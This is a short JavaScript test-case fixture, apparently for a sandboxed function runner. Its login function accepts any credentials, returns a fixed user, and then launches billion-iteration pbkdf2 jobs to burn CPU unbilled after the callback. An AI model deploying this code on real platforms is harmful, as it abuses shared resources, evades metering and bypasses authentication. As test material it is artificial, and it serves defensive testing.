// attack: call back, then burn the cores in the thread pool, where no call is charged for it
// value: {"user_id":1}
// retires: busy_while_idle
function login(email, password, callback) {
  const { pbkdf2 } = require('crypto');
  for (let thread = 0; thread < 2; thread++) pbkdf2('a', 'b', 1e9, 64, 'sha512', () => {});
  callback(null, { user_id: 1 });
}
